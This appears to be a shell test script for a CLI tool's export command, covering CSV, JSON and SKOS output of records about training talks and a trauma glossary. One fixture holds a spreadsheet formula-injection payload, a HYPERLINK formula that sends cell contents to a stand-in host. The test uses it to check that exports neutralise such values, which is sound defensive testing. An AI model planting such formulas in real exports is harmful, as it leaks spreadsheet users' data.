# tip export: every record of a type or of all as CSV or JSON, and the glossary as SKOS.
. tests/cli/lib.sh
. tests/cli/fixtures/talks.sh

talks_repo export
cat >schemas/venue.schema.yaml <<'YAML'
title: Venue
type: object
properties:
  name: {type: string}
YAML
mkdir -p records/venues && printf 'name: Civic Centre, Hall 2\n' >records/venues/civic.yaml

# ---- csv and json: as tip list writes them ----
tip list talk --format json
cp "$TMP/out" "$TMP/list.json"
tip export talk --format json
check "json: the same as tip list --format json" cmp "$TMP/out" "$TMP/list.json"
tip list talk --format csv
cp "$TMP/out" "$TMP/list.csv"
tip export talk --format csv
check "csv: the same as tip list --format csv" cmp "$TMP/out" "$TMP/list.csv"
check "  without the personal field" test -z "$(grep -e speaker -e Example "$TMP/out")"
tip export talk --format csv --include-personal
check "--include-personal: with it" grep -q "^intro,Introduction to trauma,Ann Example,informed," "$TMP/out"

tip export all --format json
expect "all as json: an object keyed by collection, the format version first" 0 \
'{"format":1,
"talks": [
{"id":"attachment","type":"talk","title":"Attachment, in depth","level":"skilled","given":"2025-11-20","minutes":120,"tags":["attachment"],"notes":"Line one, with a comma\nLine \"two\""},
{"id":"draft","type":"talk","title":"Draft talk"},
{"id":"ebsa","type":"talk","title":"EBSA: what schools can do","level":"enhanced","given":"2026-01-15","minutes":90,"score":3,"online":false,"tags":["ebsa","schools","aces"],"sessions":[{"date":"2026-01-15","count":20}]},
{"id":"intro","type":"talk","title":"Introduction to trauma","level":"informed","given":"2026-03-01","minutes":45,"score":4.5,"online":true,"tags":["aces","basics"]}
],
"venues": [
{"id":"civic","type":"venue","name":"Civic Centre, Hall 2"}
]
}'
tip export all --format json --include-personal
check "  --include-personal there too" grep -q '"speaker":"Ann Example"' "$TMP/out"

tip export all --format csv
expect_stderr "all as csv to stdout: refused, saying what to do" 2 \
	"tip: CSV holds one type: name a TYPE, or give --output DIR for one file per type"
tip export all --format csv --output "$TMP/csv"
expect "all as csv with --output DIR: a file per type, their paths on stdout" 0 \
"$TMP/csv/talks.csv
$TMP/csv/venues.csv"
check "  the talks as tip list writes them" cmp "$TMP/csv/talks.csv" "$TMP/list.csv"
check "  the venues" test "$(cat "$TMP/csv/venues.csv")" = "$(printf 'id,name\r\ncivic,"Civic Centre, Hall 2"\r')"
tip export venue --format csv --output "$TMP/csv"
expect "one type with --output DIR" 0 "$TMP/csv/venues.csv"
tip export venue --format csv --output "$TMP/csv/"
expect "  DIR typed with its slash: no second one" 0 "$TMP/csv/venues.csv"
tip export talk --format csv --output "$TMP/no/such/dir"
expect_stderr "a folder that cannot be made" 2 "tip: cannot create '$TMP/no/such/dir'"

# ---- CSV that spreadsheets open safely ----
mkdir -p "$TMP/hostile" && cd "$TMP/hostile" && git init -q . && mkdir -p schemas records/talks
cp "$TMP/export/schemas/talk.schema.yaml" schemas/
cat >records/talks/formula.yaml <<'YAML'
title: =HYPERLINK("http://example.org/?"&A1,"click")
level: informed
minutes: -3
score: -2.5
tags:
  - 'a; b'
  - c
  - '@SUM(1)'
  - 'back\slash'
notes: "+1"
YAML
printf 'title: "-2+3"\nnotes: "@here"\n' >records/talks/minus.yaml
printf 'title: "\\tTab"\nnotes: "\\rReturn"\n' >records/talks/blank.yaml
printf 'title: "safe = text"\ntags: [plain]\n' >records/talks/safe.yaml
tip export talk --format csv
# On stdout a control character in a value (here a carriage return, which validate refuses) is
# written as an escape, never raw; a file from --output holds it as it is.
printf 'id,title,level,given,minutes,score,online,tags,sessions,notes\r
blank,\047\tTab,,,,,,,,"\047\\u000dReturn"\r
formula,"\047=HYPERLINK(""http://example.org/?""&A1,""click"")",informed,,-3,-2.5,,a\\; b; c; @SUM(1); back\\\\slash,,\047+1\r
minus,\047-2+3,,,,,,,,\047@here\r
safe,safe = text,,,,,,plain,,\r
' >"$TMP/want.csv"
if [ "$status" -eq 0 ] && cmp -s "$TMP/out" "$TMP/want.csv"; then
	ok "csv: text starting with = + - @ tab or CR gets a leading ', numbers do not; list items escape ; and \\"
else
	not_ok "csv: text starting with = + - @ tab or CR gets a leading ', numbers do not; list items escape ; and \\" \
		"want:" "$(cat "$TMP/want.csv")"
fi
tip list talk --format csv
check "  tip list --format csv writes the same" cmp "$TMP/out" "$TMP/want.csv"
tip export talk --format csv --bom
check "--bom: a UTF-8 byte order mark first, then the same CSV" \
	test "$(head -c 3 "$TMP/out" | od -An -tx1 | tr -d ' ')" = efbbbf -a \
	"$(tail -c +4 "$TMP/out" | md5sum)" = "$(md5sum <"$TMP/want.csv")"
tip export all --format csv --bom --output "$TMP/bom"
check "--bom with --output: in each file" \
	test "$(head -c 3 "$TMP/bom/talks.csv" | od -An -tx1 | tr -d ' ')" = efbbbf
check "  the file holds the carriage return as it is" grep -q "$(printf '"\047\rReturn"')" "$TMP/bom/talks.csv"
tip export talk --format json --bom
expect_stderr "--bom only for csv" 2 "--bom is for --format csv"
cd "$TMP/export"

# ---- what export refuses ----
tip export talk
expect_stderr "--format is needed" 2 "tip: tip export needs --format csv, json or skos"
tip export talk --format xml
expect_stderr "an unknown format" 2 "--format must be csv, json or skos, not 'xml'"
tip export --format json
expect_stderr "no TYPE" 2 "tip export needs one TYPE, or all"
tip export lecture --format json
expect_stderr "an unknown type" 2 "tip: there is no record type 'lecture'"
tip export talk --format json --output "$TMP/x"
expect_stderr "--output only for csv" 2 "--output is for --format csv"
tip export talk --format json --base urn:x:
expect_stderr "--base only for skos" 2 "--base, --lang and --title are for --format skos"
tip export talk --format skos
expect_stderr "skos only for definitions" 2 "--format skos exports the glossary: tip export definition --format skos"

printf 'title: One\ntitle: Two\n' >records/talks/broken.yaml
tip export talk --format json
expect_stderr "a record that does not load: left out, status 1" 1 \
	"tip: 1 record could not be read and is left out"
check "  the others exported" cmp "$TMP/out" "$TMP/list.json"
rm records/talks/broken.yaml

# ---- SKOS ----
cd "$TMP"
tip init glossary
cd glossary
cat >records/definitions/trauma.yaml <<'YAML'
term: Trauma
definition: 'An event or circumstances experienced as harmful, with "lasting adverse effects".'
status: agreed
alt_labels:
  - psychological trauma
narrower:
  - ace
YAML
printf 'term: Adverse childhood experience
definition: |-
  Stressful experiences in childhood.
  A back\\slash and a tab\there.
status: draft
alt_labels: [ACE, ACEs]
hidden_labels: ["ACE'"'"'s"]
scope_note: Caf\303\251 culture \342\200\224 not this.
broader: [trauma]
related: [ebsa]
source: CDC-Kaiser ACE Study (1998)
' >records/definitions/ace.yaml
printf 'term: Emotionally based school absence\ndefinition: Difficulty attending school.\nstatus: draft\nrelated: [ace]\n' \
	>records/definitions/ebsa.yaml
tip validate
expect "the glossary is valid" 0

tip export definition --format skos
cp "$TMP/out" "$TMP/glossary.ttl"
expect "skos: a concept scheme in Turtle, escaped strings, language tags" 0 \
'@prefix dct: <http://purl.org/dc/terms/> .
@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .

<urn:tip:definition:>
    rdf:type skos:ConceptScheme ;
    dct:title "Glossary"@en ;
    skos:hasTopConcept <urn:tip:definition:ebsa>,
        <urn:tip:definition:trauma> .

<urn:tip:definition:ace>
    rdf:type skos:Concept ;
    skos:inScheme <urn:tip:definition:> ;
    skos:prefLabel "Adverse childhood experience"@en ;
    skos:altLabel "ACE"@en, "ACEs"@en ;
    skos:hiddenLabel "ACE'"'"'s"@en ;
    skos:definition "Stressful experiences in childhood.\nA back\\slash and a tab\there."@en ;
    skos:scopeNote "Café culture — not this."@en ;
    skos:broader <urn:tip:definition:trauma> ;
    skos:related <urn:tip:definition:ebsa> ;
    dct:source "CDC-Kaiser ACE Study (1998)"@en .

<urn:tip:definition:ebsa>
    rdf:type skos:Concept ;
    skos:inScheme <urn:tip:definition:> ;
    skos:topConceptOf <urn:tip:definition:> ;
    skos:prefLabel "Emotionally based school absence"@en ;
    skos:definition "Difficulty attending school."@en ;
    skos:related <urn:tip:definition:ace> .

<urn:tip:definition:trauma>
    rdf:type skos:Concept ;
    skos:inScheme <urn:tip:definition:> ;
    skos:topConceptOf <urn:tip:definition:> ;
    skos:prefLabel "Trauma"@en ;
    skos:altLabel "psychological trauma"@en ;
    skos:definition "An event or circumstances experienced as harmful, with \"lasting adverse effects\"."@en ;
    skos:narrower <urn:tip:definition:ace> .'

# A real Turtle parser must read it: rapper (Debian package raptor2-utils) when installed.
if command -v rapper >/dev/null 2>&1; then
	rapper -q -i turtle -o ntriples "$TMP/glossary.ttl" >"$TMP/triples" 2>"$TMP/rapper.err"
	status=$?
	expect "rapper parses the Turtle" 0
	check "  all 28 triples" test "$(wc -l <"$TMP/triples")" -eq 28
	check "  the escapes read back as the text" grep -qF \
		'<urn:tip:definition:ace> <http://www.w3.org/2004/02/skos/core#definition> "Stressful experiences in childhood.\nA back\\slash and a tab\there."@en .' \
		"$TMP/triples"
	check "  and the UTF-8" grep -qF '"Caf\u00E9 culture \u2014 not this."@en' "$TMP/triples"
	tip export all --format skos --base 'https://example.org/glossary/' --lang en-GB \
		--title 'Trauma informed "practice" glossary'
	printf '%s\n' "$(cat "$TMP/out")" >"$TMP/other.ttl"
	check "  and the output with another base, language and title" \
		rapper -q -i turtle -c "$TMP/other.ttl"
else
	for what in "rapper parses the Turtle" "  all 28 triples" "  the escapes read back" \
		"  and the UTF-8" "  and the output with another base, language and title"; do
		ok "$what # SKIP rapper is not installed (apt-get install raptor2-utils)"
	done
fi

tip export all --format skos --base 'https://example.org/glossary/' --lang en-GB \
	--title 'Trauma informed "practice" glossary'
expect "all --format skos: the glossary" 0
check "  the scheme is the base IRI" grep -qxF '<https://example.org/glossary/>' "$TMP/out"
check "  concepts are base + id" grep -qF \
	'skos:narrower <https://example.org/glossary/ace> .' "$TMP/out"
check "  the language tag" grep -qF '"Trauma"@en-GB ;' "$TMP/out"
check "  the title, escaped" grep -qF \
	'dct:title "Trauma informed \"practice\" glossary"@en-GB ;' "$TMP/out"
tip export definition --format skos --base 'no scheme here'
expect_stderr "a base that is no absolute IRI" 2 "'no scheme here' is not an absolute IRI"
tip export definition --format skos --base 'urn:x:a b'
expect_stderr "a base IRI with a space" 2 "'urn:x:a b' cannot be an IRI"
tip export definition --format skos --base 'https://example.org/<x>'
expect_stderr "a base IRI with <" 2 "it holds '<', which IRIs do not allow"
tip export definition --format skos --lang 'en GB'
expect_stderr "a language tag that is none" 2 "'en GB' is not a language tag"

done_testing
